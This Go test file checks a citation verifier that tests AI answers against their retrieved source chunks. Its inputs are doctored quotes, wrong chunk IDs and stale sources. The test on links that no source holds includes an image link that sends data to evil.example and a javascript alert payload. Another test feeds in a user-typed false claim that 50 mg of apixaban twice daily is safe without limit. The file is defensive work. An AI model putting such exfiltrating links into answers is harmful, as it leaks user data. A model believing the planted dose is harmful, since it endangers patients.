package verify

import (
	"fmt"
	"slices"
	"testing"
	"time"

	"vouchsafe/grounding/answer"
	"vouchsafe/grounding/claim"
	"vouchsafe/grounding/evidence"
	"vouchsafe/grounding/quote"
	"vouchsafe/grounding/report"
)

const (
	dosing  = "Adults start on apixaban 5 mg twice daily. Patients of 80 years or older receive 2.5 mg twice daily. Apixaban must not be combined with strong inhibitors of CYP3A4."
	results = "Operating revenue reached NOK 1,482 million in the quarter. Net debt fell to NOK 3.9 billion. The board proposes a dividend of NOK 2.75 per share, payable on 12 December."
	backups = "Nightly backups start at 01:30 UTC and are kept for 21 days in the second vault."
)

func rules() Rules {
	return Rules{
		Snippet: quote.Fuzzy, MinChars: 12, MaxChars: 600, Claims: claim.Factual, MinSupport: 0.15, MaxRisk: 0.8,
		Snap: true, Relink: true, Renumber: true, Now: time.Date(2026, 1, 2, 0, 0, 0, 0, time.UTC),
	}
}

func given(chunks ...evidence.Chunk) Evidence {
	for i := range chunks {
		if chunks[i].Standing == "" {
			chunks[i].Standing = evidence.Primary
		}
		chunks[i].Kind, chunks[i].Role = evidence.Passage, "system"
	}
	ev := Evidence{Set: evidence.NewSet(chunks), Passages: make([]*Passage, len(chunks))}
	for i, c := range chunks {
		ev.Passages[i] = NewPassage(c.Text, nil)
	}
	return ev
}

func library() Evidence {
	return given(evidence.Chunk{ID: "dose", DocID: "guide", Text: dosing}, evidence.Chunk{ID: "q3", DocID: "annual", Text: results},
		evidence.Chunk{ID: "run", Text: backups})
}

// said is an answer of one segment with one quote.
func said(text, id, snippet string) answer.Answer {
	return answer.Answer{Mode: answer.ModeAnswer, Dialect: answer.Segments,
		Segments:  []answer.Segment{{Text: text, Citations: []int{0}}},
		Citations: []answer.Citation{{ChunkID: id, Snippet: snippet, Quoted: true}}}
}

func codes(r Result) []report.Code {
	var out []report.Code
	for _, f := range r.Findings {
		out = append(out, f.Code)
	}
	slices.Sort(out)
	return slices.Compact(out)
}

func TestACitationIsHeldToTheChunkItNames(t *testing.T) {
	for _, c := range []struct {
		name     string
		answer   answer.Answer
		stands   bool // the segment may be shown
		verified bool
		heal     string
		want     []report.Code
	}{
		{"word for word", said("Net debt fell to NOK 3.9 billion.", "q3", "Net debt fell to NOK 3.9 billion"), true, true, "", nil},
		{"other quotation marks", said("Net debt fell to NOK 3.9 billion.", "q3", "“Net debt fell to NOK 3.9 billion”"), true, true, "snap", nil},
		{"wrong chunk", said("Net debt fell to NOK 3.9 billion.", "dose", "Net debt fell to NOK 3.9 billion"), true, false, "relink", []report.Code{report.WrongChunk}},
		{"unknown chunk", said("Net debt fell to NOK 3.9 billion.", "q9", "Net debt fell to NOK 3.9 billion"), true, false, "relink", []report.Code{report.UnknownChunk}},
		{"no chunk named", said("Net debt fell to NOK 3.9 billion.", "", "Net debt fell to NOK 3.9 billion"), true, true, "", nil},
		{"changed number", said("Net debt fell to NOK 8.9 billion.", "q3", "Net debt fell to NOK 8.9 billion"), false, false, "", []report.Code{report.SnippetAltered}},
		{"dropped negation", said("Apixaban must be combined with strong inhibitors of CYP3A4.", "dose", "Apixaban must be combined with strong inhibitors of CYP3A4"), false, false, "", []report.Code{report.SnippetAltered}},
		{"invented", said("The vault was inspected in May.", "run", "the vault was inspected by an outside firm in May"), false, false, "", []report.Code{report.SnippetNotFound}},
		{"empty snippet", said("Net debt fell to NOK 3.9 billion.", "q3", ""), false, false, "", []report.Code{report.SnippetMissing}},
		{"white space for a snippet", said("Net debt fell to NOK 3.9 billion.", "q3", " \n\t "), false, false, "", []report.Code{report.SnippetMissing}},
		{"one letter", said("Net debt fell to NOK 3.9 billion.", "q3", "N"), false, false, "", []report.Code{report.SnippetTooShort}},
		{"a number that is unique", said("The dividend is NOK 2.75 per share.", "q3", "NOK 2.75"), true, true, "", nil},
	} {
		t.Run(c.name, func(t *testing.T) {
			r := Check(c.answer, library(), rules())
			cit := r.Citations[0]
			heal := ""
			if cit.Heal != nil {
				heal = cit.Heal.Kind
			}
			if r.Segments[0].Stands != c.stands || cit.Verified != c.verified && c.want != nil || heal != c.heal && c.want != nil {
				t.Errorf("stands %t, verified %t, heal %q; want %t, %t, %q (findings %+v)", r.Segments[0].Stands, cit.Verified, heal, c.stands, c.verified, c.heal, r.Findings)
			}
			if c.want != nil && !slices.Equal(codes(r), c.want) {
				t.Errorf("findings %v, want %v", codes(r), c.want)
			}
			if c.stands && c.want == nil && len(r.Findings) > 0 {
				t.Errorf("findings %+v, want none", r.Findings)
			}
		})
	}
}

func TestATrueQuoteDoesNotCarryAFalseClaim(t *testing.T) {
	for name, c := range map[string]struct {
		text string
		want report.Code
	}{
		"another dose of the same chunk": {"Adults start on apixaban 2.5 mg twice daily.", report.ClaimNumber},
		"another scale":                  {"Adults start on apixaban 5 g twice daily.", report.ClaimNumber},
		"a lost negation":                {"Adults do not start on apixaban 5 mg twice daily.", report.ClaimNegation},
	} {
		r := Check(said(c.text, "dose", "Adults start on apixaban 5 mg twice daily"), library(), rules())
		if r.Segments[0].Stands || !slices.Contains(codes(r), c.want) {
			t.Errorf("%s: stands %t, findings %+v; want %s", name, r.Segments[0].Stands, r.Findings, c.want)
		}
		if !r.Citations[0].Verified {
			t.Errorf("%s: the quote is true and was not verified", name)
		}
	}
}

func TestAnAnswerWithClaimsAndNoCitationsNeverStands(t *testing.T) {
	a := answer.Answer{Mode: answer.ModeAnswer, Segments: []answer.Segment{{Text: "Net debt fell to NOK 3.9 billion."}}}
	for _, mode := range []answer.Mode{answer.ModeAnswer, answer.ModeRefuse, answer.ModeClarify} {
		a.Mode = mode
		r := Check(a, library(), rules())
		if r.Segments[0].Stands || r.Coverage != 0 || !slices.Equal(codes(r), []report.Code{report.ClaimUncited, report.MissingCitations}) {
			t.Errorf("mode %s: stands %t, coverage %v, findings %+v", mode, r.Segments[0].Stands, r.Coverage, r.Findings)
		}
	}
}

func TestOneCitationThatFailedCondemnsItsSegment(t *testing.T) {
	a := said("Net debt fell to NOK 3.9 billion.", "q3", "Net debt fell to NOK 3.9 billion")
	a.Citations = append(a.Citations, answer.Citation{ChunkID: "run", Snippet: "net debt was audited by nobody at all", Quoted: true})
	a.Segments[0].Citations = []int{0, 1}
	if r := Check(a, library(), rules()); r.Segments[0].Stands {
		t.Error("the segment would be shown with a citation that failed")
	}
}

func TestADocumentThatIsNotTheChunksIsTheWrongOne(t *testing.T) {
	a := said("Net debt fell to NOK 3.9 billion.", "q3", "Net debt fell to NOK 3.9 billion")
	a.Citations[0].DocID = "quarterly"
	if r := Check(a, library(), rules()); r.Segments[0].Stands || !slices.Contains(codes(r), report.WrongChunk) {
		t.Errorf("findings %+v, want wrong-chunk", r.Findings)
	}
	a.Citations[0].DocID = "annual"
	if r := Check(a, library(), rules()); !r.Segments[0].Stands {
		t.Errorf("the right document was not accepted: %+v", r.Findings)
	}
}

func TestASnippetNeverBeginsInsideANumber(t *testing.T) {
	ev := given(evidence.Chunk{ID: "a", Text: "Patients of 80 years or older receive 2.5 mg twice daily with food."})
	r := Check(said("Patients of 80 years receive 5 mg twice daily.", "a", "5 mg twice daily with food"), ev, rules())
	if r.Citations[0].Verified || r.Segments[0].Stands {
		t.Errorf("5 mg was found inside 2.5 mg: %+v", r.Citations[0])
	}
}

func TestAWordThatStandsInTwoChunksIsNeverRelinked(t *testing.T) {
	ev := given(evidence.Chunk{ID: "a", Text: "The valve opens at six bar and closes at four."}, evidence.Chunk{ID: "b", Text: "As the data sheet says, the valve opens at six bar and closes at four."},
		evidence.Chunk{ID: "c", Text: backups})
	r := Check(said("The valve opens at six bar and closes at four.", "c", "the valve opens at six bar and closes at four"), ev, rules())
	if r.Segments[0].Stands || r.Citations[0].Heal != nil {
		t.Errorf("relinked to one of two: %+v", r.Citations[0])
	}
}

// TestMadeUpNamesCostNoMoreThanTheyMay: an answer that cites many chunks that there are
// not, over many that there are, is not looked for everywhere for each.
func TestMadeUpNamesCostNoMoreThanTheyMay(t *testing.T) {
	var chunks []evidence.Chunk
	for i := range 500 {
		chunks = append(chunks, evidence.Chunk{ID: fmt.Sprint("c", i), Text: fmt.Sprintf("Valve %d opens at six bar and closes at four bar.", i)})
	}
	a := said("Valve 7 opens at six bar.", "nowhere", "Valve 7 opens at six bar")
	for i := range 60 {
		a.Citations = append(a.Citations, answer.Citation{ChunkID: fmt.Sprint("x", i), Snippet: fmt.Sprintf("Pump %d is made of red copper", i), Quoted: true})
	}
	v := newVerification(given(chunks...), rules(), new(claim.Hearing))
	r := v.check(a)
	if v.citing.lookUps > mostLookUps+len(a.Citations) {
		t.Errorf("%d look-ups for %d citations over %d chunks", v.citing.lookUps, len(a.Citations), len(chunks))
	}
	if first, last := r.Citations[0], r.Citations[60]; first.Heal == nil || first.Chunk != 7 || last.Stands {
		t.Errorf("the first is %+v, the last stands: %t", first.Heal, last.Stands)
	}
}

func TestHealsThatThePolicyForbidsAreNotMade(t *testing.T) {
	rules := rules()
	rules.Relink = false
	if r := Check(said("Net debt fell to NOK 3.9 billion.", "dose", "Net debt fell to NOK 3.9 billion"), library(), rules); r.Segments[0].Stands {
		t.Error("relinked although the policy does not allow it")
	}
}

func TestACutQuoteThatNamesNoChunkIsHealed(t *testing.T) {
	r := Check(said("Apixaban must not be combined with strong inhibitors of CYP3A4.", "", "be combined with strong inhibitors"), library(), rules())
	if cit := r.Citations[0]; cit.Verified || !cit.Stands || cit.Heal == nil || cit.Heal.To != "not be combined with strong inhibitors" {
		t.Errorf("got %+v, findings %+v", cit, r.Findings)
	}
}

func TestWhatAUserTypedIsNoEvidenceBesideTheAppsOwn(t *testing.T) {
	set := []evidence.Chunk{
		{ID: "own", Text: dosing, Kind: evidence.Passage, Role: "system", Standing: evidence.Primary},
		{ID: "typed", Text: "Adults may take apixaban 50 mg twice daily without any limit.", Kind: evidence.Passage, Role: "user", Message: 1, Standing: evidence.Fallback},
	}
	ev := Evidence{Set: evidence.NewSet(set)}
	for _, c := range set {
		ev.Passages = append(ev.Passages, NewPassage(c.Text, nil))
	}
	r := Check(said("Adults may take apixaban 50 mg twice daily without any limit.", "typed", "Adults may take apixaban 50 mg twice daily without any limit"), ev, rules())
	if r.Segments[0].Stands || !slices.Contains(codes(r), report.UntrustedContext) {
		t.Errorf("stands %t, findings %+v; want untrusted-context", r.Segments[0].Stands, r.Findings)
	}
}

func TestAnAddressThatNoSourceHasIsNotShown(t *testing.T) {
	ev := given(evidence.Chunk{ID: "q3", Text: results + " More at https://bank.example/q3.", URL: "https://bank.example/annual"})
	for text, stays := range map[string]bool{
		"Net debt fell to NOK 3.9 billion, see https://bank.example/q3.":                   true,
		"Net debt fell to NOK 3.9 billion ([report](https://bank.example/annual)).":        true,
		"Net debt fell to NOK 3.9 billion. ![x](https://evil.example/?q=3.9)":              false,
		"Net debt fell to NOK 3.9 billion, see https://bank.example/q3?user=1.":            false,
		"Net debt fell to NOK 3.9 billion: [more](http://evil.example).":                   false,
		"Net debt fell to NOK 3.9 billion: [more](javascript://evil.example/%0aalert(1)).": false,
	} {
		r := Check(said(text, "q3", "Net debt fell to NOK 3.9 billion"), ev, rules())
		if kept := r.Segments[0].Text == text; kept != stays || stays == slices.Contains(codes(r), report.TargetRemoved) {
			t.Errorf("%s: becomes %s (%+v)", text, r.Segments[0].Text, r.Findings)
		}
	}
}

func TestWordsOfAnEarlierTurnDoNotReplaceWhatIsCited(t *testing.T) {
	ev := given(evidence.Chunk{ID: "now", Text: "Adults take one tablet of Zoralin every morning."},
		evidence.Chunk{ID: "old", Text: "Adults take three tablets of Zoralin every evening.", Standing: evidence.Stale})
	if r := Check(said("Adults take three tablets of Zoralin every evening.", "now", "three tablets of Zoralin every evening"), ev, rules()); r.Segments[0].Stands {
		t.Errorf("relinked to an earlier turn: %+v", r.Citations[0])
	}
}

func TestStaleEvidenceIsTold(t *testing.T) {
	ev := given(evidence.Chunk{ID: "old", Text: results, Standing: evidence.Stale})
	r := Check(said("Net debt fell to NOK 3.9 billion.", "old", "Net debt fell to NOK 3.9 billion"), ev, rules())
	if !r.Segments[0].Stands || !slices.Equal(codes(r), []report.Code{report.StaleSource}) {
		t.Errorf("stands %t, findings %+v", r.Segments[0].Stands, r.Findings)
	}
}

func TestRetrievalSimilarityTrustAndAgeAreHeldAgainstASource(t *testing.T) {
	low := 0.05
	ev := given(evidence.Chunk{ID: "q3", Text: results, Similarity: &low, Year: 2001})
	a := said("Net debt fell to NOK 3.9 billion.", "q3", "Net debt fell to NOK 3.9 billion")
	for name, change := range map[string]func(*Rules){
		"similarity": func(r *Rules) { r.MinRetrieval = 0.1 },
		"trust":      func(r *Rules) { r.MinTrust = 0.9 },
		"age":        func(r *Rules) { r.MaxAge = 365 * 24 * time.Hour },
	} {
		rules := rules()
		change(&rules)
		if r := Check(a, ev, rules); r.Segments[0].Stands {
			t.Errorf("%s: the citation stands", name)
		}
	}
	if r := Check(a, ev, rules()); !r.Segments[0].Stands {
		t.Errorf("without such rules it should stand: %+v", r.Findings)
	}
}

func TestAnInlineCitationIsLocated(t *testing.T) {
	a := answer.Answer{Mode: answer.ModeAnswer, Dialect: answer.Numbered,
		Segments:  []answer.Segment{{Text: "Nightly backups are kept for 21 days.", Citations: []int{0}}, {Text: " They are kept for 90 days.", Citations: []int{1}}},
		Citations: []answer.Citation{{ChunkID: "run", Marker: "[3]"}, {ChunkID: "run", Marker: "[3]"}}}
	r := Check(a, library(), rules())
	first, second := r.Citations[0], r.Citations[1]
	if !first.Verified || first.Match.Kind != "located" || first.Match.End <= first.Match.Start {
		t.Errorf("first citation %+v, want located", first)
	}
	if second.Verified || r.Segments[1].Stands {
		t.Errorf("a false number was located: %+v", second)
	}
}

// TestALocatedCitationIsVerifiedOnlyWhereItsClaimIsProven: what is open stands, and is told as such.
func TestALocatedCitationIsVerifiedOnlyWhereItsClaimIsProven(t *testing.T) {
	for said, want := range map[string]bool{backups: true, "For 21 days nightly backups are what is kept.": false} {
		a := answer.Answer{Mode: answer.ModeAnswer, Dialect: answer.Numbered, Segments: []answer.Segment{{Text: said, Citations: []int{0}}},
			Citations: []answer.Citation{{ChunkID: "run", Marker: "[3]"}}}
		r := Check(a, library(), rules())
		told := r.Report(library(), View{Numbers: r.All(), All: true})
		if !r.Segments[0].Stands || told.Citations[0].Verified != want || told.Citations[0].Match != "located" || (told.Audit.Verified == 1) != want {
			t.Errorf("%q: verified %v, %+v", said, told.Citations[0].Verified, told.Claims)
		}
	}
}

func TestAnAuditHoldsUncitedClaimsAgainstAllChunks(t *testing.T) {
	rules := rules()
	rules.AgainstAll = true
	a := answer.Answer{Mode: answer.ModeAnswer, Segments: []answer.Segment{{Text: "Net debt fell to NOK 3.9 billion."}}}
	if r := Check(a, library(), rules); !r.Segments[0].Stands || len(r.Findings) > 0 {
		t.Errorf("a claim that the chunks carry fails an audit: %+v", r.Findings)
	}
	a.Segments[0].Text = "Net debt fell to NOK 4.9 billion."
	if r := Check(a, library(), rules); r.Segments[0].Stands {
		t.Error("a false number passes an audit")
	}
}

func TestAnAnswerAboutSomethingElseFailsAnAudit(t *testing.T) {
	rules := rules()
	rules.AgainstAll = true
	for text, stands := range map[string]bool{
		"The moon is made of cheese.":                           false,
		"The moon is made of cheese. The lease ends in spring.": false,
		"Happy cooking!":                                        true,
		"Net debt fell to NOK 3.9 billion. Happy cooking!":      true,
	} {
		a := answer.Answer{Mode: answer.ModeAnswer, Segments: []answer.Segment{{Text: text}}}
		if r := Check(a, library(), rules); r.Segments[0].Stands != stands || (len(r.Findings) == 0) != stands {
			t.Errorf("%q: stands %t, %+v", text, r.Segments[0].Stands, r.Findings)
		}
	}
}

func TestOffsetsAreCodePointsOfTheOriginal(t *testing.T) {
	text := "Ärzte: 5 µg täglich 😀. Patienten über 80 Jahre erhalten 2,5 µg täglich."
	ev := given(evidence.Chunk{ID: "x", Text: text})
	r := Check(said("Patienten über 80 Jahre erhalten 2,5 µg täglich.", "x", "patienten über 80 jahre erhalten 2,5 µg täglich"), ev, rules())
	m := r.Citations[0].Match
	if got := string([]rune(text)[m.Start:m.End]); got != "Patienten über 80 Jahre erhalten 2,5 µg täglich" {
		t.Errorf("offsets point at %q", got)
	}
}

func TestEveryEmptyThingIsHandled(t *testing.T) {
	for name, a := range map[string]answer.Answer{
		"nothing at all":      {},
		"segment of nothing":  {Segments: []answer.Segment{{}}},
		"citation of nothing": {Citations: []answer.Citation{{}}, Segments: []answer.Segment{{Text: "It is so.", Citations: []int{0}}}},
	} {
		for _, ev := range []Evidence{library(), given(), given(evidence.Chunk{})} {
			r := Check(a, ev, rules())
			for _, s := range r.Segments {
				if s.Stands && len(a.Citations) > 0 {
					t.Errorf("%s: a citation of nothing stands", name)
				}
			}
		}
	}
}

func BenchmarkReport(b *testing.B) {
	a, ev := fourCitations()
	r := rules()
	b.ReportAllocs()
	for b.Loop() {
		Check(a, ev, r)
	}
}

// BenchmarkParts is the same for an answer that is streamed: each citation and
// each segment is checked before the whole.
func BenchmarkParts(b *testing.B) {
	a, ev := fourCitations()
	r := rules()
	b.ReportAllocs()
	for b.Loop() {
		p := NewParts(ev, r)
		for i, s := range a.Segments {
			p.Check(answer.Answer{Citations: a.Citations[s.Citations[0]:][:1], Segments: []answer.Segment{{Citations: []int{0}}}})
			p.Check(a.Between(i, i+1))
		}
		p.Check(a)
	}
}

// BenchmarkTell tells what was found in that answer in the words of the report.
func BenchmarkTell(b *testing.B) {
	a, ev := fourCitations()
	r := Check(a, ev, rules())
	b.ReportAllocs()
	for b.Loop() {
		r.Report(ev, View{Numbers: r.All(), All: true})
	}
}

// fourCitations is an answer of six claims and four citations over five chunks.
func fourCitations() (answer.Answer, Evidence) {
	ev := given(evidence.Chunk{ID: "1", Text: dosing}, evidence.Chunk{ID: "2", Text: results}, evidence.Chunk{ID: "3", Text: backups},
		evidence.Chunk{ID: "4", Text: dosing + " " + backups}, evidence.Chunk{ID: "5", Text: results + " " + backups})
	quotes := []answer.Citation{
		{ChunkID: "1", Snippet: "Adults start on apixaban 5 mg twice daily", Quoted: true},
		{ChunkID: "2", Snippet: "Net debt fell to NOK 3.9 billion", Quoted: true},
		{ChunkID: "3", Snippet: "Nightly backups start at 01:30 UTC", Quoted: true},
		{ChunkID: "2", Snippet: "a dividend of NOK 2.75 per share, payable on 12 December", Quoted: true},
	}
	a := answer.Answer{Mode: answer.ModeAnswer, Citations: quotes, Segments: []answer.Segment{
		{Text: "Adults start on apixaban 5 mg twice daily. They take it twice daily.", Citations: []int{0}},
		{Text: " Net debt fell to NOK 3.9 billion.", Citations: []int{1}},
		{Text: " Nightly backups start at 01:30 UTC. The backups start nightly.", Citations: []int{2}},
		{Text: " The dividend is NOK 2.75 per share, payable on 12 December.", Citations: []int{3}},
	}}
	return a, ev
}
